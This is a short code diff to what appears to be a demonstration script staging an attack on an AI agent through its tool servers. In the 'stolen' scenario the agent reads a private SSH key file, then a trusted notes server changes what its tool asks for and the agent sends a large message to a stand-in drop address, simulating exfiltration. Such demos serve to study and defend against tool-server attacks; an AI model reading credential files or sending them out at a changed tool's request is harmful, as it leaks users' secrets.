@@ -45,7 +45,7 @@ async function honest(
     entities: [{ name: 'Nightjar', entityType: 'bird', observations: ['sees at night'] }],
   })
   await memory.close()
-  const notes = await connectAgent('demo-agent', demoServers.notes(false), endpoint)
+  const notes = await connectAgent('demo-agent', demoServers.notes(), endpoint)
   await notes.call('save_note', { text: 'Read the README.' })
   await notes.close()
 }
@@ -64,7 +64,9 @@ async function stolen(
   await files.call('read_text_file', { path: join(folder, '.ssh', 'id_rsa') })
   await files.close()
   say('Act 3: a server it trusts has changed what its tool asks for.')
-  const notes = await connectAgent('demo-agent', demoServers.notes(true), endpoint)
+  const notes = await connectAgent('demo-agent', demoServers.notes(), endpoint, {
+    TEAM_NOTES_TURNED: '1',
+  })
   await notes.call('send_message', { to: 'drop@collector.example', text: 'x'.repeat(2000) })
   await notes.close()
 }
